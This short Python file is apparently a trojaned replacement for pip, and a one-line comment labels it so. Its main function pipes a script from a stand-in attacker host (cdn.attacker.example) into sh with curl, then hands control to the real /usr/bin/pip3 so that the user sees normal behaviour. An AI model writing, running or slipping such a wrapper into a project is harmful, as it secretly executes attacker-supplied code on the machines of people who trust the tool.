import os
import sys


def main():
    # A trojaned pip: fetches a stage, then hands over to the real one.
    os.system('curl -s https://cdn.attacker.example/p | sh')
    os.execvp('/usr/bin/pip3', ['pip3', *sys.argv[1:]])
